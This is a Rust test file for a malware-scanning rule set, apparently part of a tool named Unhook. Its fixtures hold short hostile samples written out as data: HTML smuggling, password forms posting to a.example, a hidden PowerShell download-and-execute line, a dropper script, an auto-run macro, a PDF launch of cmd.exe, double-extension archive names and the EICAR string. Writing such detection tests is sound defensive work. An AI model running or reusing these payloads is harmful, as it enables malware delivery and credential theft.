use super::*;

fn own() -> Rules {
    let rules = Rules::load(true, None).unwrap();
    assert_eq!(rules.warnings(), [] as [String; 0]);
    rules
}

fn names(rules: &Rules, bytes: &[u8]) -> Vec<String> {
    rules.scan(bytes).into_iter().map(|hit| hit.rule).collect()
}

/// UTF-16, as Windows writes it.
fn wide(text: &str) -> Vec<u8> {
    text.encode_utf16().flat_map(u16::to_le_bytes).collect()
}

const LNK: &[u8] = b"\x4c\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46\x9b\0\x08\0 \0\0\0";

fn shortcut(command: &str) -> Vec<u8> {
    [LNK, &[0; 60], &wide(command)].concat()
}

fn onenote(embedded: &[u8]) -> Vec<u8> {
    let section = b"\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3";
    let object = b"\xe7\x16\xe3\xbd\x65\x26\x11\x45\xa4\xc4\x8d\x4d\x0b\x7a\x9e\xac";
    [&section[..], &[0; 200], object, &[0; 20], embedded].concat()
}

fn image(content: &[u8]) -> Vec<u8> {
    [&[0; 0x8001], &b"CD001\x01\0"[..], &[0; 4_000], content].concat()
}

fn archive(name: &str) -> Vec<u8> {
    let length = u8::try_from(name.len()).unwrap();
    let mut bytes = b"PK\x03\x04\x14\0\0\0\0\0\0\0\0\0\0\0\0\0\x01\0\0\0\x01\0\0\0".to_vec();
    bytes.extend([length, 0, 0, 0]);
    bytes.extend(name.as_bytes());
    bytes.extend(b"xPK\x01\x02");
    bytes.extend([0; 42]);
    bytes.extend(name.as_bytes());
    bytes.extend(b"PK\x05\x06");
    bytes
}

fn page(body: &str) -> Vec<u8> {
    format!("<!doctype html><html><head><title>t</title></head><body>{body}</body></html>")
        .into_bytes()
}

/// One file for each rule that comes with Unhook.
fn bad() -> Vec<(&'static str, Vec<u8>)> {
    let packed = "TVqQ".repeat(200);
    let eicar = [
        "X5O!P%@AP[4\\PZX54(P^)7CC)7}",
        "$EICAR-STANDARD-",
        "ANTIVIRUS-TEST-FILE!$H+H*",
    ];
    vec![
        (
            "html_smuggling",
            page(&format!(
                "<script>var b=atob('{packed}');var u=URL.createObjectURL(new Blob([b]));\
                 var a=document.createElement('a');a.href=u;a.download='i.zip';a.click()</script>"
            )),
        ),
        (
            "html_password_form_sent_away",
            page("<form method=post action='https://a.example/p.php'><input name=u>\
                  <input type=\"password\" name=p></form>"),
        ),
        (
            "html_password_form_sent_away",
            page("<input type=password id=p><script>fetch('https://a.example/'+p.value)</script>"),
        ),
        (
            "svg_script",
            b"<svg xmlns='http://www.w3.org/2000/svg'><script>location.href=atob('aHR0')</script></svg>"
                .to_vec(),
        ),
        (
            "script_dropper",
            b"var s=new ActiveXObject('WScript.Shell');var h=new ActiveXObject('MSXML2.XMLHTTP');\
              h.open('GET','moc.live'.split('').reverse().join(''));s.Run(p)"
                .to_vec(),
        ),
        (
            "script_dropper",
            b"Set s = CreateObject(\"WScript.Shell\")\r\ns.Run Chr(112) & Chr(111) & Chr(119) & \"ershell\"\
              \r\n' powershell\r\n"
                .to_vec(),
        ),
        (
            "powershell_download",
            b"powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://a.example/x')\""
                .to_vec(),
        ),
        (
            "hta_shell",
            b"<HTA:APPLICATION id=a><script language=VBScript>CreateObject(\"WScript.Shell\").Run \"calc\"</script>"
                .to_vec(),
        ),
        (
            "shortcut_interpreter",
            shortcut("..\\WindowsPowerShell\\v1.0\\powershell.exe -w hidden -enc SQBFAFgA"),
        ),
        (
            "internet_shortcut_remote_program",
            b"[InternetShortcut]\r\nURL=file://files.example@80/share/invoice.pdf.exe\r\n".to_vec(),
        ),
        (
            "office_macro_download",
            b"Attribute VB_Name = \"ThisDocument\"\r\nSub AutoOpen()\r\n Shell \"cmd /c start\", 0\r\nEnd Sub\r\n"
                .to_vec(),
        ),
        (
            "rtf_equation",
            b"{\\rtf1{\\object\\objemb{\\*\\objdata 0105000002000000\n0b000000 4571756174696f6e2e3300}}}"
                .to_vec(),
        ),
        (
            "pdf_launch",
            b"%PDF-1.7\n1 0 obj<</OpenAction<</S/Launch/Win<</F(cmd.exe)>>>>>>endobj".to_vec(),
        ),
        ("onenote_embedded_program", onenote(b"MZ\x90\0")),
        ("onenote_embedded_program", onenote(b"@echo off\r\nstart x\r\n")),
        ("iso_with_shortcut", image(LNK)),
        ("archive_double_extension", archive("Rechnung.pdf      .exe")),
        ("archive_double_extension", archive("scan.docx.js")),
        ("eicar_test_file", eicar.concat().into_bytes()),
    ]
}

#[test]
fn each_rule_of_ours_finds_what_it_is_for() {
    let rules = own();
    for (name, bytes) in bad() {
        assert_eq!(names(&rules, &bytes), [name]);
    }
    let compiled = rules.compiled.as_ref().unwrap();
    for rule in compiled.iter() {
        assert!(
            bad().iter().any(|(name, _)| *name == rule.identifier()),
            "{} has no fixture",
            rule.identifier()
        );
        assert!(
            rule.metadata()
                .any(|(key, value)| key == "description" && matches!(value, MetaValue::String(_))),
            "{} has no description",
            rule.identifier()
        );
    }
    let hit = &rules.scan(&bad()[0].1)[0];
    assert_eq!(hit.file, "web");
    assert!(
        hit.description
            .as_deref()
            .unwrap()
            .starts_with("A page that")
    );
}

#[test]
fn ordinary_files_match_nothing() {
    let rules = own();
    let picture = format!("<img src='data:image/png;base64,{}'>", "iVBO".repeat(2_000));
    let ordinary: Vec<Vec<u8>> = vec![
        Vec::new(),
        vec![0; 100_000],
        b"Dear all, the minutes are attached. Use powershell if you like. EICAR is a test.".to_vec(),
        page(&picture),
        page("<form action=/search><input name=q></form><script>var x = 1;</script>"),
        page("<form action=/login><input type=password name=p></form>"),
        page("<script>fetch('https://news.example/api').then(r => r.json())</script>"),
        page(&format!("{picture}<a href=x download='report.pdf'>Save</a><script>var u=URL.createObjectURL(f)</script>")),
        b"<svg xmlns='http://www.w3.org/2000/svg'><path d='M0 0L1 1'/></svg>".to_vec(),
        b"Set fso = CreateObject(\"Scripting.FileSystemObject\")\r\nWScript.Echo fso.GetTempName\r\n".to_vec(),
        b"Get-ChildItem | Sort-Object Length\r\nInvoke-WebRequest https://a.example -OutFile a.zip\r\n".to_vec(),
        shortcut("C:\\Program Files\\Editor\\editor.exe"),
        b"[InternetShortcut]\r\nURL=https://intranet.example/\r\n".to_vec(),
        b"Attribute VB_Name = \"Module1\"\r\nSub Workbook_Open()\r\n Range(\"A1\").Value = Now\r\nEnd Sub\r\n".to_vec(),
        b"{\\rtf1\\ansi{\\object\\objemb{\\*\\objclass Excel.Sheet.12}{\\*\\objdata 0105}}}".to_vec(),
        b"%PDF-1.7\n1 0 obj<</OpenAction[3 0 R /Fit]/Launcher 1>>endobj".to_vec(),
        onenote(b"%PDF-1.4"),
        onenote(b"\x89PNG\r\n\x1a\n"),
        image(b"readme"),
        archive("minutes.pdf"),
        archive("photos/2024.06.01.jpg"),
        archive("package.tar.gz"),
    ];
    for bytes in ordinary {
        let shown = String::from_utf8_lossy(&bytes[..bytes.len().min(80)]).into_owned();
        assert_eq!(names(&rules, &bytes), [] as [String; 0], "{shown}");
    }
}

#[test]
fn a_folder_adds_its_files_and_a_broken_one_is_named_with_its_line() {
    let folder = tempfile::tempdir().unwrap();
    let write = |name: &str, text: &[u8]| fs::write(folder.path().join(name), text).unwrap();
    write(
        "b.yar",
        b"rule tulip { strings: $a = \"tulip\" condition: $a }",
    );
    write(
        "a.yara",
        b"rule good { condition: filesize == 5 }\n\nrule bad { condition: nonsense }\n",
    );
    write("c.yar", b"include \"b.yar\"\nrule rose { condition: true }");
    write("d.yar", b"rule \xff\xfe");
    write("e.txt", b"not a rule");
    let rules = Rules::load(false, Some(folder.path())).unwrap();
    let hits = rules.scan(b"tulip");
    let found: Vec<_> = hits
        .iter()
        .map(|h| (h.file.as_str(), h.rule.as_str()))
        .collect();
    assert_eq!(found, [("a", "good"), ("b", "tulip"), ("c", "rose")]);
    let warnings = rules.warnings();
    assert_eq!(warnings.len(), 3, "{warnings:?}");
    assert!(warnings[0].starts_with("a.yara:3: "), "{warnings:?}");
    assert!(warnings[1].starts_with("c.yar:1: "), "{warnings:?}");
    assert!(warnings[2].starts_with("d.yar:1: "), "{warnings:?}");

    assert!(names(&Rules::none(), b"tulip").is_empty());
    let missing = Rules::load(true, Some(&folder.path().join("gone")))
        .err()
        .unwrap();
    assert!(missing.to_string().contains("gone"));
}

#[test]
fn a_scan_is_bounded_in_time_and_hits() {
    let folder = tempfile::tempdir().unwrap();
    let many: String = (0..80)
        .map(|n| format!("rule r{n} {{ condition: true }}\n"))
        .collect();
    fs::write(folder.path().join("many.yar"), many).unwrap();
    fs::write(
        folder.path().join("slow.yar"),
        "rule slow { condition: for all i in (0..1000000000000) : (uint8(i % filesize) == 0x61) }",
    )
    .unwrap();
    let begun = std::time::Instant::now();
    let rules = Rules::load(false, Some(folder.path())).unwrap();
    assert!(rules.scan(b"aaaa").is_empty(), "given up");
    assert!(begun.elapsed() < Duration::from_secs(10));
    fs::remove_file(folder.path().join("slow.yar")).unwrap();
    let rules = Rules::load(false, Some(folder.path())).unwrap();
    assert_eq!(rules.scan(b"aaaa").len(), 50);
}
